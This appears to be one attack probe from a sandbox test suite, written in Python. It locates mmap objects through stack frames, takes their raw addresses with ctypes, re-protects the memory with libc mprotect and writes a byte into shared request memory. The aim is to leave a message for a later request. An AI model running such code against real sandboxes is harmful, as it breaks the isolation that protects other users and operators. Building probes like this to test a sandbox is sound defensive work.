"""Leaves a message for its successor in the memory by which requests are told, past every protection of Python's."""

ATTACK = {
    "family": "state",
    "stopped_by": ["the memory is sealed"],
    "expect": ["killed", "exception", "value"],
    "proof": "message",
    "never_lifted": "the seal on shared memory is no layer that a sandbox can do without",
}

import ctypes
import mmap
import sys


def mappings():
    frame = sys._getframe()
    while frame is not None:
        for value in list(frame.f_locals.values()):
            for part in (value, *getattr(value, "__dict__", {}).values()):
                if isinstance(part, mmap.mmap):
                    yield part
        frame = frame.f_back


class View(ctypes.Structure):
    _fields_ = [("buffer", ctypes.c_void_p), ("object", ctypes.py_object), ("length", ctypes.c_ssize_t),
                ("rest", ctypes.c_void_p * 8)]


def address(memory):
    view = View()
    ctypes.pythonapi.PyObject_GetBuffer(ctypes.py_object(memory), ctypes.byref(view), 0)
    return view.buffer


def attack(host):
    libc = ctypes.CDLL(None, use_errno=True)
    for memory in list(mappings()):
        place = address(memory) + len(memory) - 8192
        libc.mprotect(ctypes.c_void_p(place & ~4095), 4096, 3)
        ctypes.memset(place, host["message"], 1)


def collect(host):
    return max((memory[len(memory) - 8192] for memory in mappings()), default=None)
